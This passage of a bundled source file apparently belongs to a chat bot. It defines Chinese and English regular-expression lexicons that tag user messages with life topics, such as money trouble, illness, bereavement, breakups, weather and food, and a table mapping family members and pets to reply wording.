+		"(?:股票|基金|炒股|理财|币圈|大盘|股市|a股).{0,8}(?:亏|跌|套|绿|赔|爆仓|腰斩)|(?:基金|股票).{0,4}绿|亏(?:了|到|掉).{0,5}(?:万|千|钱|块|裤衩|不少|好多)|爆仓|被套牢|赌(?:输|光)|\\b(?:lost .{0,14}(?:in|on) (?:the )?(?:stocks?|crypto|bitcoin|market|bets?|options)|(?:stocks?|crypto|bitcoin|portfolio|market) (?:is |are |just )?(?:down|tank\\w*|crash\\w*|in the red))\\b"
+	],
+	[
+		"broke",
+		"money",
+		"(?:我|又|都)?没钱(?:了|吃|交|花|买)|月光|吃土|(?:我|真|太|好)?穷(?:死|成|疯|得)|兜里.{0,4}(?:块|没)|工资.{0,3}花(?:光|完)|花光|入不敷出|手头(?:紧|没钱)|\\b(?:(?:i'?m|im|i am|been) (?:so |totally |flat |dead |fucking |literally |completely )*broke(?! (?:up|my|the))|broke (?:af|asf|until|till|this month|again)|out of money|can'?t afford|have no money|(?:until|till) payday|paycheck to paycheck|bank account(?:'s| is)? (?:empty|crying)|money (?:worries|troubles)|worries about money)\\b"
+	],
+	[
+		"mishap",
+		"other",
+		"(?:手机|钱包|电脑|耳机|身份证|护照|行李|电动车|自行车|快递|车).{0,5}(?:丢了|被偷|碎屏|进水|坏了|掉(?:马桶|水|厕所|地上|江|进|沟)|摔(?:了|碎)|被(?:撞|刮|拖|贴条|追尾))|(?:丢|偷)了?.{0,2}(?:我)?(?:的)?(?:手机|钱包|身份证|护照)|追尾|爆胎|(?:没)?赶(?:不)?上(?:车|飞机|高铁|火车)|误机|(?:航班|高铁|火车|飞机).{0,3}(?:取消|延误|晚点|没赶上)|忘(?:了)?带钥匙|家里(?:停电|漏水|停水)|被贴条|\\b(?:lost my (?:phone|wallet|keys|passport|luggage|id)|(?:phone|laptop|pc|car|bike) (?:got |was |is |just )*(?:died|stolen|cracked|broke(?: down)?|broken|towed|totaled|keyed)|stole my (?:phone|wallet|bike|car|bag|package|laptop)|flat tire|car (?:won'?t start)|rear-?ended|fender bender|missed my (?:bus|train|flight|stop)|flight (?:got |was |is )?(?:cancel\\w*|delayed)|locked (?:myself )?out|parking ticket|basement flooded|power(?:'s| is| went)? out)\\b"
+	],
+	[
+		"insomnia",
+		"sleep",
+		"失眠|睡不(?:着|好|踏实)|数羊|(?:睁|瞪)(?:着)?眼(?:到|睁)|[两二三四五1-6]点(?:多)?(?:了)?(?:还|才)?(?:睁着?眼|没睡|睡着)|翻来覆去|安眠药|褪黑素|噩梦|鬼压床|\\b(?:insomnia|can(?:'|no)?t (?:fall a?sleep|sleep)|couldn'?t (?:fall a?sleep|sleep)|trouble sleeping|haven'?t (?:really )?slept|counting sheep|nightmares?|tossing and turning|melatonin)\\b"
+	],
+	[
+		"tired",
+		"sleep",
+		"(?:只|就|才)?睡(?:了|到)?.{0,3}(?:[一两二三四五\\d]|半)(?:个)?(?:多)?(?:小时|钟头)|没(?:怎么)?睡(?:好|够|醒|饱|觉|着)?|通宵|熬(?:了|到|夜)|熬大夜|(?<!围|被|乐|谁|不)困(?:死|成|得不行|得要|得很|啊|傻)|(?:好|真|有点|太|犯)困(?!难|惑)|眼皮.{0,2}打架|睁不开眼|眼睛睁不开|(?:累|乏)(?:死|瘫|趴|成狗|坏)(?:了|我)?|(?:今天|最近|这周|天天).{0,6}累|\\b\\d+(?:\\.5)? ?(?:hrs?|hours?) (?:of )?sleep|slept (?:like |maybe |only |for |about )*(?:\\d|an hour|two|three|four)|(?:barely|hardly|no|zero|little|lack of) sle(?:pt|ep)|up all night|all[- ]?nighters?|sleep[- ]deprived|so (?:sleepy|tired|exhausted)|(?:i'?m|im|i am) (?:\\w+ )?(?:tired(?! of)|exhausted|wiped|knackered|drained|sleepy)|stayed up|dozing off|running on (?:fumes|\\w+ coffees?|\\d)|can'?t keep my eyes open"
+	],
+	[
+		"low",
+		"other",
+		"没人(?:喜欢|在乎|要|关心)我|\\bfeel(?:ing)? like a failure\\b|心情(?:不好|很?(?:差|糟|烂)|低落|down|跌)|(?:今天|最近|这几天|这两天|昨天|这阵子|这周|这日子).{0,8}(?:烦|难受|不顺|糟心|憋屈|委屈|难过|丧|崩溃|想哭|emo|水逆|熬不|过不下)|压力(?:好|太|山|真|有点)?大|(?:好|有点|很|真|太)(?:孤独|孤单|寂寞)|没人(?:陪|懂|理解)我|(?:生活|日子|人生).{0,4}(?:太难|没意思|一团糟|好难)|\\b(?:(?:bad|rough|awful|terrible|shitty|crappy|horrible|hard|tough|worst|long) (?:day|week|month|year)(?! (?:at work|for (?:you|seat|the)))|feel(?:ing)? (?:so |really |kinda |pretty |a bit )*(?:down|low|lonely|empty|awful|lost|blue)|(?:i'?m|im|i am|been) (?:so |really |just |kinda |super )*(?:lonely|stressed(?: out)?|sad|overwhelmed|homesick|miserable)|stressed out|hard time(?:s)? (?:lately|right now|rn)|life (?:sucks|is hard|has been))\\b"
+	]
+];
+
+// src/chatter/moves/life/matters/near.ts
+const LOSSES = [
+	[
+		"loss_pet",
+		"loss",
+		"PET.{0,10}(?:走了|没了|去世|不在了|死了|离开(?:了|我)|没(?:能)?救(?:回来|过来|活)|安乐|去了?[喵汪]星)|(?:没(?:能)?救(?:回来|过来|活)|送走了).{0,6}PET|PET.{0,24}\\b(?:died|passed(?: away)?|is gone|was put (?:down|to sleep))\\b|\\bput(?:ting)? (?:him|her|(?:my|our|the) (?:\\w+ )?PET) (?:to sleep|down)\\b|\\blost (?:my|our) (?:old )?PET|我家(?:狗|猫).{0,8}走的"
+	],
+	[
+		"loss_kin",
+		"loss",
+		"CLOSE.{0,12}(?:去世|过世|走了|走的|没了|不在了|离世|病逝|没(?:能)?(?:救|挺|扛)(?:回来|过来|过去|活)|没熬过)|(?<!当场|原地|直接)去世|过世|(?<!就地)病逝|离世|葬礼|追悼|丧事|白事|守灵|奔丧|\\bpassed away\\b|\\b(?:at|to|after|before|from|for|back from|\\w+'s) (?:a |the |his |her |my )?(?:\\w+'?s )?(?:funeral|memorial service)\\b|\\bburied (?:my|our|an?) (?:\\w+ )?(?:friend|mother|father|mom|dad|grand\\w+|uncle|aunt|dog|cat)\\b|CLOSE.{0,14}[他她]走.{0,3}年|CLOSE.{0,24}\\b(?:died|passed(?! (?:me|the|my|his|her|it)\\b)|is gone|didn'?t make it)\\b|\\blost (?:my|our) CLOSE|\\bmiscarriage\\b|流产"
+	]
+];
+const NEAR4 = [
+	[
+		"pet_ill",
+		"health",
+		"PET.{0,14}(?:病|吐|拉稀|医院|手术|不吃|骨折|瘸|抽搐|打针|绝育|丢了|走丢|找不到)|PET.{0,30}\\b(?:vet|sick|ill|surgery|limping|hurt|hit by|missing|ran away|won'?t eat|throwing up|threw up|seizures?|cancer)\\b|\\bvet\\b.{0,24}PET|(?:丢了|走丢).{0,3}PET"
+	],
+	[
+		"kin_surgery",
+		"health",
+		"CLOSE.{0,16}(?:手术|开刀|支架|搭桥|化疗|放疗)|(?:手术|开刀).{0,8}CLOSE|CLOSE.{0,36}\\b(?:surgery|operation|operated|chemo|bypass|transplant)\\b|\\b(?:surgery|operation|chemo)\\b.{0,20}CLOSE"
+	],
+	[
+		"kin_ill",
+		"health",
+		"CLOSE.{0,14}(?:住院|住进|icu|监护室|抢救|急诊|癌|肿瘤|中风|脑梗|心梗|心脏病|糖尿病|高血压|病(?!毒)|摔(?:了|断|倒|伤)|骨折|发烧|高烧|不行了|确诊|查出|车祸|阳了|老年痴呆)|(?:住院|抢救|确诊|病危|病重).{0,8}CLOSE|CLOSE.{0,36}\\b(?:hospital|icu|e\\.?r\\b|sick|ill|cancer|tumou?r|stroke|heart attack|dementia|alzheimer'?s|diagnosed|fever|covid|pneumonia|fell (?:down|and)|broke (?:his|her) (?:hip|leg|arm)|car (?:crash|accident))|\\b(?:hospital|icu)\\b.{0,20}CLOSE"
+	],
+	[
+		"hurt",
+		"health",
+		"骨折|崴(?:了|到)?(?:我)?脚|脚崴|(?:摔|撞|断|瘸|扭|烫|拉)(?:了|伤|断|着|到)?(?:我|的)?(?:腿|胳膊|手臂|手腕|膝盖|脚踝|尾椎)|(?:腿|胳膊|手臂|手腕|膝盖|脚踝)(?:摔|撞|扭|断|拉伤|打石膏)|打着?石膏|出(?:了)?车祸|被车(?:撞|碰)|脑震荡|韧带|\\b(?:broke|broken|fractured|sprained|twisted|dislocated|busted) my (?:arm|leg|ankle|wrist|knee|foot|hand|finger|rib|shoulder|collarbone)\\b|in a (?:cast|car (?:crash|accident))|car (?:crash|accident)|stitches|concussion|tore my\\b"
+	],
+	[
+		"surgery",
+		"health",
+		"(?:我|要|得|去|做|动|刚)(?:了|完|个|一个)?(?:小|大)?手术(?!刀)|(?:要|得|去|明天|后天|下周|周.|医生|医院).{0,4}开刀|拔智齿|\\b(?:my|having|had|getting|need|scheduled for|before|after) (?:\\w+ )?(?:surgery|operation)|wisdom (?:tooth|teeth)|root canal\\b"
+	],
+	[
+		"checkup",
+		"health",
+		"体检|检查(?:结果|报告|出来|单)|结节|脂肪肝|指标(?:高|不正常|超标)|尿酸|化验|活检|查出(?:来)?(?:了|个)?.{0,4}(?:瘤|炎|石|息肉|问题)|确诊|(?:血压|血糖|血脂)(?:有点|又|偏)?高|\\bdoctor wants (?:more )?tests\\b|\\b(?:blood tests?|test results?|biopsy|mri|ct scan|ultrasound|check-?up|diagnosed with|high blood pressure|doctor says (?:i|my))\\b"
+	],
+	[
+		"mind",
+		"health",
+		"抑郁(?:症|了|的)?|焦虑(?:症|到|得)?|惊恐发作|心理医生|心理咨询|\\b(?:depress(?:ed|ion)|anxiety|panic attacks?|my therapist|in therapy|ptsd)\\b"
+	],
+	[
+		"pain",
+		"health",
+		"(?<!看得我|让人|令人|打得我|想得我|笑得|笑到)(?:牙|胃|肚子|腰|背|嗓子|喉咙|偏头|关节|智齿|姨妈|颈椎)(?:又|有点|好|真|还|一直)?(?:疼|痛)|(?<!看得我|让人|令人|让我|叫人|叫我|打得我|想得我|真)头(?:又|有点|好|一直)?(?:疼|痛|晕)(?!的是|死)|痛经|胃病|腰椎|腰突|\\b(?:migraine|(?<!giving me a )headache(?! of)|toothache|stomach ?ache|back ?ache|sore throat|cramps|my (?:back|head|tooth|teeth|stomach|knee|neck|throat|wrist) (?:is |are |really |still |so |just )*(?:hurts?|hurting|kill(?:s|ing) me|aches?))\\b"
+	],
+	[
+		"sick",
+		"health",
+		"发(?:高|低|着)?烧|高烧|低烧|烧到(?:了)?(?:38|39|40|三十八|三十九|四十)|感冒|流感|新冠|又?阳了|咳(?:嗽|得|个不停|了)|(?:最近|老是|总).{0,3}心慌|嗓子.{0,3}哑|鼻塞|流鼻涕|上吐下泻|(?:我|早上|昨晚|又|都).{0,3}吐了(?!槽|口|血)|拉肚子|过敏|中暑|食物中毒|肺炎|生病|(?<!装)病(?:了|倒|假)|打点滴|挂水|吊水|(?:身体|身子|浑身).{0,3}(?:不舒服|难受)|住院|去(?:了)?(?:趟)?医院|看(?:了)?(?:医生|病)|吃药|\\b(?:threw up|throwing up|puk(?:ed|ing)|the flu|a fever|food poisoning|covid|(?:i'?m|im|been|feel(?:ing)?|got|really|so|home) (?:\\w+ )?(?:sick|ill)(?! of| when| (?:play|move|turn|shot|combo))|(?:caught|have|had|got) (?:a|this|the) (?:\\w+ )?cold|cough(?:ing)?|runny nose|under the weather|unwell|in (?:the )?hospital|pneumonia|allerg\\w+|sinus\\w*)\\b"
+	],
+	[
+		"breakup",
+		"love",
+		"分手|失恋|被甩|(?:跟|和|与)LOVE.{0,6}(?:分|断|散)了|LOVE.{0,16}(?:分了|算了吧|没感觉|不爱(?:我|了)|提分|要分|不要我|跑了|走了|拉黑|跟(?:别|人)|散了)|(?:[他她]|对方|LOVE).{0,4}(?:拉黑|删)(?:了)?我|(?:[他她]|对方|LOVE)把我(?:拉黑|删|甩)|离婚|异地.{0,10}(?:算了|撑不|分|散)|挽回|前女友|前男友|前任|忘不(?:了|掉)[他她]|\\b(?:broke up|breakup|break(?:ing)? up with|dumped me|got dumped|split up|divorc\\w*|my ex|ended (?:things|it) with me|single again|LOVE (?:just )?left me|LOVE and i (?:just )?(?:broke|split|ended)|s?he left me|love of my life)\\b"
+	],
+	[
+		"cheated",
+		"love",
+		"劈腿|出轨|(?:把我|给我)绿|被绿了|戴(?:了)?绿帽|小三|\\b(?:cheat(?:ed|ing) on me|LOVE (?:was |is |been )?(?:cheated|cheating)|having an affair)\\b"
+	],
+	[
+		"love_quarrel",
+		"love",
+		"LOVE.{0,10}(?:吵架|吵了|吵起来|冷战|生气|不理我|没理我|闹别扭|不回我|回娘家|发火)|(?:跟|和)LOVE.{0,4}吵|冷战.{0,6}[天周]|\\b(?:(?:fight|fought|fighting|argued|argument|arguing) with (?:my )?LOVE|LOVE.{0,16}(?:mad at me|not talking to me|won'?t talk to me|isn'?t talking))\\b"
+	],
+	[
+		"rejected",
+		"love",
+		"(?:表白|告白).{0,4}(?:被拒|失败|黄了|凉了)|被(?:[他她]|女神|男神|喜欢的人)拒|(?:被|给我).{0,3}发.{0,3}好人卡|(?:[他她]|女神|男神|对方).{0,4}已读不回|(?:只|就)(?:想|能)?(?:跟我)?做朋友|\\b(?:turned me down|rejected me|ghosted (?:me|again)|got ghosted|stood (?:me )?up on a date|got stood up|s?he hasn'?t texted|hasn'?t texted (?:me )?back|friend ?zoned?|left (?:me )?on read|s?he said no)\\b"
+	],
+	[
+		"kin_quarrel",
+		"family",
+		"(?:跟|和|与).{0,3}(?:KIN|FRIEND).{0,6}(?:吵|闹(?:翻|僵|掰|矛盾)|不说话|没说话|冷战|打架|翻脸|绝交)|(?:KIN|FRIEND).{0,12}(?:吵架|吵了|吵起来|闹翻|没说话|骂我|打我|不理解我|逼我|赶(?:我)?出|不认我|绝交)|家里?(?:吵|闹)(?:架|了|得|翻)|爸妈.{0,6}离婚|(?:fight|fought|fighting|argued|argument|arguing) with (?:my )?(?:KIN|FRIEND)|(?:KIN|FRIEND) (?:and|n|&) i (?:fought|are not|aren'?t|had a|argued|haven'?t)|(?:KIN|FRIEND).{0,16}\\b(?:yell(?:ed|ing|s) at me|mad at me|kicked me out|disowned|not talking|divorc\\w*)\\b"
+	],
+	[
+		"pressed",
+		"family",
+		"催婚|催生|逼婚|催(?:我)?(?:结婚|生娃|找对象|相亲)|\\b(?:when (?:i'?m|am i|are you) (?:getting married|having kids)|set(?:ting)? me up with)\\b"
+	],
+	[
+		"homesick",
+		"family",
+		"(?<!不)想家|(?:孩子|儿子|女儿|闺女).{0,6}(?:过年|今年).{0,4}(?:不|没)回|bad news from home|想(?:我)?(?:爸|妈|家里人)了?$|(?:过年|中秋|春节|除夕).{0,6}(?:回不|没回|不能回|一个人)|一个人过(?:年|节|生日|中秋)|\\b(?:homesick|miss (?:home|my (?:KIN)|my family))\\b"
+	],
+	[
+		"kids",
+		"family",
+		"(?:娃|孩子|儿子|女儿|闺女).{0,8}(?:闹|哭|不睡|作业|叛逆|打架|被叫家长|发烧)|带娃.{0,6}(?:累|崩溃)|辅导作业|\\b(?:my|our) (?:kids?|baby|son|daughter|toddler).{0,20}(?:won'?t (?:sleep|eat|stop)|crying|tantrum|up all night|screaming|teething|suspended)\\b"
+	]
+];
+
+// src/chatter/moves/life/matters/talk.ts
+const GOOD = [
+	[
+		"well_again",
+		"health",
+		"出院(?:了|啦)|手术(?:很|挺)?(?:顺利|成功)|(?:烧|高烧)?退(?:烧)?了|(?:已经|终于|总算)?(?:康复|痊愈)|病(?:都|已经|总算|终于)?好(?:了|全|利索|些)|良性|虚惊一场|\\b(?:out of (?:the )?hospital|surgery went (?:well|fine|ok(?:ay)?|good)|all clear|benign|recovered|cancer[- ]free|got discharged|fever(?:'s| is)? gone)\\b"
+	],
+	[
+		"study_done",
+		"study",
+		"(?<![没未不])(?:过线|上岸|考过|过了四级|过了六级|及格|考上|保研|毕业)(?:了|.{1,6}了)|(?<![没未不])(?:上岸|拿到录取|论文过)了?|录取通知|答辩(?:过|通过)了|考了.{0,4}(?:满分|第一|高分)|\\b(?:(?:aced|passed|nailed) (?:my|the|that|an?|all my) (?:\\w+ )?(?:exams?|test|class(?:es)?|midterm|finals?|driving test|course|boards)|got (?:in|accepted) (?:to|into|at)|i graduated|graduat(?:ing|ed) (?:today|tomorrow|this|last|next))\\b"
+	],
+	[
+		"work_good",
+		"work",
+		"(?<![没未不])(?:升职|加薪|涨工资|转正)(?:了|啦|加薪)|(?<![没未不])(?:拿到|收到|有).{0,3}offer|面试(?:过|通过)了|找到工作了|发奖金|\\b(?:(?:i )?got (?:the|that|a|this) (?:new )?(?:job|promotion|raise|offer)|got promoted|got hired|(?<!passed over |not )promoted(?! (?:him|her|them|someone|somebody))|first day at (?:my|the) new job)\\b"
+	],
+	[
+		"love_good",
+		"love",
+		"脱单(?:了|啦)|求婚(?:成功|了)|(?:[他她]|对方)答应(?:我|了)|表白成功|领证|(?:要|快|就要)结婚了|(?:下个?月|下周|年底|明年|马上|周[一二三四五六日末])结婚|订婚|(?<!想|要|没)在一起了|(?:[他她])说(?:她|他)?也喜欢我|\\b(?:(?:s?he|they) said yes|we(?:'re|re| are) (?:getting married|engaged)|were getting married|i(?:'m|m| am) (?:getting married|engaged)|got engaged|(?:s?he) likes me back|got (?:a|my first) (?:girlfriend|boyfriend|gf|bf))\\b"
+	],
+	[
+		"family_good",
+		"family",
+		"(?:要|当)(?:爸|妈|爹|叔|舅|姑|姨)(?:妈|爸)?了|怀孕了|生了(?:个)?(?:儿子|女儿|闺女|大胖)|母子平安|\\b(?:having a baby|(?:i'?m|we'?re|she'?s) pregnant|gave birth|(?:i'?m|gonna be|going to be) (?:a|an) (?:dad|mom|mum|father|mother|uncle|aunt)|baby (?:is|was) born)\\b"
+	],
+	[
+		"money_good",
+		"money",
+		"中(?:了)?(?:彩票|大奖|奖了)|发工资(?:了|啦|的)|(?:股票|基金).{0,4}(?:涨|赚|回本)|赚了.{0,5}(?:万|千|块|钱)|\\b(?:won (?:the lottery|\\d+ (?:bucks|dollars))|got paid (?:today|finally)|payday (?:today|at last)|paid off (?:my|the))\\b"
+	],
+	["birthday_kin", "family", "CLOSE.{0,10}(?:生日|大寿)|CLOSE(?:'s)? .{0,10}\\b(?:birthday|bday)\\b"],
+	[
+		"birthday",
+		"time",
+		"(?:我|今天|今儿|明天).{0,4}(?:过)?生日(?!.{0,6}(?:走|不在|忌))|\\b(?:it'?s )?my (?:\\d+\\w* )?(?:birthday|bday)\\b|\\bturn(?:ing|ed)? \\d\\d (?:today|tomorrow)\\b"
+	]
+];
+const TALK2 = [
+	[
+		"crush",
+		"love",
+		"暗恋|crush|喜欢(?:上)?(?:了)?(?:一个|个|我们?|隔壁|班上|公司).{0,8}(?:女生|男生|同事|同学|女孩|男孩|姑娘|妹子|学姐|学长|学妹|学弟|室友|小哥|小姐姐)|喜欢(?:[他她]|人家)(?:好久|很久|半年|.{0,2}年|.{0,2}个月)|(?:不敢|想|要不要|该不该|怎么)(?:跟|向|和)?.{0,4}(?:表白|告白)|追(?:女|男)(?:生|孩|神)|\\b(?:(?:have|got|having) a (?:huge |massive |big )?crush|my crush|(?:like|likes|into|fell for|falling for) (?:this|a|my) (?:girl|guy|boy|woman|man|coworker|classmate|neighbor)|ask(?:ing)? (?:her|him|them) out)\\b"
+	],
+	[
+		"single",
+		"love",
+		"(?:我|母胎|还|一直)单身|单身狗|没(?:有)?对象|相亲|\\b(?:(?:i'?m|im|still|forever|being) single|blind date|dating apps?|tinder|no (?:gf|bf|girlfriend|boyfriend))\\b"
+	],
+	[
+		"rain",
+		"weather",
+		"下(?:着|起|了)?(?:大|暴|小|阵)?雨|(?:暴|大|梅|阵)雨|淋(?:湿|雨|成|了)|台风|打雷|(?:没)?带伞|\\b(?:pouring|rain(?:ing|y|ed)|rain (?:today|outside|all|again|here)|thunder ?storms?|storm(?:ing)? (?:outside|here|today)|typhoon|hurricane|umbrella)\\b"
+	],
+	[
+		"heat",
+		"weather",
+		"(?<![和干])(?:好|太|真|这么|超|贼)热(?!闹|血|心|门|情)|热(?:死|成|得|炸|傻|化)|[34]\\d ?(?:多)?度|三十.度|高温|空调.{0,3}(?:坏|没|开|遥控)|热风|像?蒸笼|桑拿|那边热|热(?:吗|不热|么)|\\b(?:heat ?wave|so hot|too hot|hot (?:today|outside|in here|in my|as hell|af)|\\d{2,3} ?degrees|sweating (?:in|like|my)|(?:ac|a\\.c\\.|air ?con\\w*) (?:is |just |has )*(?:broken?|dead|out|died)|boiling in)\\b"
+	],
+	[
+		"cold",
+		"weather",
+		"(?<!手)(?:好|太|真|这么|超|贼|有点)冷(?!静|清|门|场|血|笑|板|淡|漠)|冷(?:死|得|哭|飕|成)(?!我了.{0,2}笑)|降温|零下.{0,3}度|冻(?:死|成|得|手|哭|傻)|下(?:大|暴)?雪|暖气|\\b(?:snow(?:ing|ed|y|storm)?|freezing(?: cold)?|(?:so|too|really) cold|cold (?:today|outside|in here|as hell|af)|below zero|blizzard|my heater)\\b"
+	],
+	[
+		"fine_day",
+		"weather",
+		"天气(?:真|好|不错|巴适|这么好)|出太阳|(?:大)?晴天|天晴|\\b(?:(?:nice|beautiful|lovely|gorgeous|sunny) (?:weather|day (?:outside|out|today)|out(?:side)?|today)|so sunny)\\b"
+	],
+	["weather", "weather", "天气|雾霾|刮风|大风|沙尘|\\b(?:weather|windy|foggy|forecast)\\b"],
+	[
+		"food_choice",
+		"food",
+		`${FOOD}.{0,3}(?:还是|或者|vs|跟|和|\\bor\\b).{0,8}(?:选|哪|${FOOD}|[?])|(?:thinking|between|choose) .{0,16}\\bor\\b.{0,12}${FOOD}|${FOOD} or `
+	],
+	["late_snack", "food", "宵夜|夜宵|\\b(?:midnight snack|late[- ]night (?:snack|food))\\b"],
+	[
+		"hungry",
+		"food",
+		"(?<!恶狼|如狼似)(?:我|好|有点|真|都|又|快|肚子)饿(?!狼)|饿(?:死|了|得|晕|扁)|吃(?:了吗|了没|饭了|饭没|饭去|什么好|啥好|点啥)|没吃(?:晚|早|午|饭)|肚子.{0,3}叫|\\b(?:starving|hungry|hangry|haven'?t eaten|(?:anyone|you|everyone|guys) (?:ate|eaten|eat)|what'?s for (?:dinner|lunch|breakfast)|skipped (?:lunch|dinner|breakfast))\\b"
+	],
+	[
+		"drink",
+		"food",
+		"奶茶|咖啡|可乐|雪碧|全糖|半糖|三分糖|无糖|续命水|泡茶|喝茶|啤酒|红酒|白酒|喝(?:多|醉|大)了|宿醉|\\b(?:coffees?|espresso|latte|boba|bubble tea|milk tea|(?:green|black|hot|iced|some|my|drinking|cup of) tea|beers?|red wine|glass of wine|whiskey|vodka|red bull|energy drinks?|coke|hungover|hangover|tipsy)\\b"
+	],
+	[
+		"food",
+		"food",
+		`${FOOD}|(?:早|午|晚|年夜)饭|做饭|好吃|零食|下厨|厨房|\\b(?:dinner|lunch|breakfast|brunch|snacks?|eating|leftovers|takeout)\\b`
+	],
+	[
+		"weekend",
+		"time",
+		"(?:周末|放假|假期|国庆|五一|元旦|过年|春节|暑假|寒假|下班后?|打完).{0,10}(?:干嘛|干啥|干什么|去哪|怎么过|有(?:啥|什么)安排|计划|躺平|出去玩|玩啥)|(?:周末|假期).{0,6}(?:到了|快乐|睡)|\\b(?:weekend plans?|(?:this|the|next|my) weekend|plans for (?:the )?(?:weekend|holidays?|tonight|vacation)|(?:long|holiday) weekend)\\b"
+	],
+	[
+		"late",
+		"time",
+		"(?:这么|好|太|都)晚了?(?:$|还)|半夜(?:了|还)?|凌晨|几点睡|\\b(?:getting late|so late|past my bedtime|\\d ?am (?:here|already|and)|it'?s late)\\b"
+	],
+	[
+		"sport",
+		"news",
+		"健身|跑步|减肥|撸铁|瑜伽|游泳|爬山|(?:打|踢)(?:篮|足|羽毛|乒乓|排|网)?球(?!员)|世界杯|欧冠|英超|西甲|国足|nba|cba|奥运|马拉松|\\b(?:gym|work(?:ed|ing)? out|went running|marathon|on a diet|lose weight|football|soccer|basketball|baseball|hockey|world cup|super bowl|playoffs|champions league|olympics)\\b"
+	],
+	[
+		"shows",
+		"news",
+		"追剧|电影|电视剧|综艺|动漫|番剧|新番|小说|演唱会|听歌|单曲循环|\\b(?:netflix|movies?|tv shows?|anime|concert|new album|binge\\w*|(?:season|episode) \\d)\\b"
+	],
+	[
+		"games",
+		"news",
+		"原神|王者荣耀|英雄联盟|lol(?:比赛|手游|排位)|吃鸡|steam|黑神话|ps5|绝地求生|永劫|第五人格|\\b(?:minecraft|valorant|league of legends|elden ring|genshin|fortnite|nintendo|playstation|xbox|dota|overwatch|hearthstone)\\b"
+	],
+	["news", "news", "热搜|新闻|微博|抖音|b站|小红书|\\b(?:the news|headlines|twitter|tiktok|youtube|reddit)\\b"],
+	[
+		"travel",
+		"other",
+		"旅游|旅行|出差|景点|机票|(?:坐|在|等)(?:高铁|火车|飞机|地铁)上?|\\b(?:vacation|road ?trip|(?:a|my|our) trip to|travel(?:l?ing)?|on (?:a|the) (?:plane|train|bus)|at the airport)\\b"
+	],
+	[
+		"pets",
+		"other",
+		"(?:我家?(?:的)?|家里的?)(?:小)?(?:猫|狗|喵|汪|柯基|哈士奇|橘猫|主子).{0,10}(?:拆家|趴|蹭|捣乱|打翻|可爱|胖|看我打|睡)|撸猫|遛狗|\\b(?:my (?:cat|dog|puppy|kitten) (?:is|keeps|loves|wants|sleeps|sits)|walk(?:ing)? (?:my|the) dog)\\b"
+	],
+	[
+		"work",
+		"work",
+		"(?:我|刚|在|明天|今天|还).{0,3}(?:上班|下班)|(?:刚|才)下班|在单位|在公司|(?:要|在|刚)开会|摸鱼.{0,4}(?:上班|公司|老板)|\\b(?:off work|at work|my shift|after work|my office|day off)\\b"
+	],
+	[
+		"study",
+		"study",
+		"早八(?!百)|逃课|(?:写|赶|补).{0,2}作业|宿舍|开学|学校|自习|\\b(?:homework|school (?:today|tomorrow|starts)|my (?:class|lecture|dorm)|campus|lecture)\\b"
+	],
+	[
+		"family",
+		"family",
+		"(?:我|俺)(?:妈|爸|奶奶|爷爷|姐|妹|哥|弟|闺女|儿子|女儿|老婆|老公)(?:在|说|问|给|教|做|来|也|总|老)|\\b(?:KIN|LOVE) (?:is|was|says?|said|asks?|asked|keeps|loves|wants|came|made|cooked|taught|thinks|plays)\\b"
+	]
+];
+
+// src/chatter/moves/life/lexicon.ts
+const kinds = (rows, trouble) => rows.map(([matter, topic, words]) => ({ matter, topic, trouble, words: words.replace(/BOSS/g, BOSS) }));
+const MATTERS = [
+	...kinds(LOSSES, true),
+	...kinds(GOOD, false),
+	...kinds(NEAR4, true),
+	...kinds(DAILY, true),
+	...kinds(TALK2, false)
+];
+
+// src/chatter/moves/life/whose.ts
+const MINE = "(?<![你您他她谁大])";
+const ROWS5 = [
+	["kin", `${MINE}(?:奶奶|我奶(?!茶|粉))|\\b(?:grandma|grandmother|granny|nana|gran)\\b`, "奶奶", "your grandma"],
+	["kin", `${MINE}(?:爷爷|我爷)|\\b(?:grandpa|grandfather|granddad|gramps)\\b`, "爷爷", "your grandpa"],
+	["kin", "外婆|姥姥|家婆", "外婆", "your grandma"],
+	["kin", "外公|姥爷", "外公", "your grandpa"],
+	["kin", `${MINE}(?:爸妈|父母|二老)|(?<!your )\\b(?:parents|folks)\\b`, "爸妈", "your parents"],
+	[
+		"kin",
+		`(?:我|俺)(?:老|亲)?[妈娘]|${MINE}(?:老妈|妈妈|母亲)|(?<!(?:your|ur|yo) )\\b(?:mom|mum|mother|mama)\\b`,
+		"阿姨",
+		"your mum"
+	],
+	[
+		"kin",
+		`(?:我|俺)(?:老|亲)?[爸爹]|${MINE}(?:老爸|爸爸|父亲)|(?<!(?:your|ur|yo) )\\b(?:dad|father|papa)\\b`,
+		"叔叔",
+		"your dad"
+	],
+	["partner", "女朋友|女友|老伴|我女票|\\b(?:girlfriend|gf)\\b", "她", "your girlfriend"],
+	["partner", "男朋友|男友|我男票|\\b(?:boyfriend|bf)\\b", "他", "your boyfriend"],
+	["partner", `${MINE}(?:老婆|媳妇|我妻子)|(?<!your )\\bwife\\b`, "嫂子", "your wife"],
+	["partner", `${MINE}(?:老公|我丈夫)|(?<!your )\\bhusband\\b`, "他", "your husband"],
+	["partner", "对象|另一半|前任|前女友|前男友|\\b(?:partner|fianc[eé]e?|my ex)\\b", "那个人", "your partner"],
+	[
+		"kin",
+		"(?:我|俺|家里?)(?:的)?(?:娃|宝宝|丫头)|(?<![你您他她男女大熊小])(?:儿子|女儿|闺女|孩子)|带娃|哄娃|\\b(?:my|our) (?:son|daughter|kids?|baby|toddler|little one)\\b",
+		"孩子",
+		"your kid"
+	],
+	[
+		"kin",
+		"我(?:的)?(?:哥|弟|堂哥|表哥|表弟)|\\b(?:my|our) (?:(?:big|little|older|younger) )?bro(?:ther)?\\b",
+		"你兄弟",
+		"your brother"
+	],
+	[
+		"kin",
+		"我(?:的)?(?:姐|妹|堂姐|表姐|表妹)|\\b(?:my|our) (?:(?:big|little|older|younger) )?sis(?:ter)?\\b",
+		"你姐妹",
+		"your sister"
+	],
+	[
+		"kin",
+		"我(?:的)?(?:叔|伯|舅|姑|姨)|亲人|家里?人|家里|\\b(?:my|our) (?:uncle|aunt(?:ie)?|cousin|family)\\b",
+		"家里人",
+		"your family"
+	],
+	[
+		"friend",
+		"(?:我|好)(?:的)?(?:朋友|哥们|室友|同学|基友)|闺蜜|发小|\\bmy (?:(?:best|old|close) )?(?:friend|roommate|buddy|mate)\\b",
+		"你朋友",
+		"your friend"
+	],
+	[
+		"pet",
+		"(?:我家?的?|家里的?|养的|小|老|大)?(?:狗(?!头|屎|贼|咬狗|腿|命|血)|汪|柯基|金毛|哈士奇|泰迪)|\\b(?:dog|doggo|puppy|pup)\\b",
+		"狗狗",
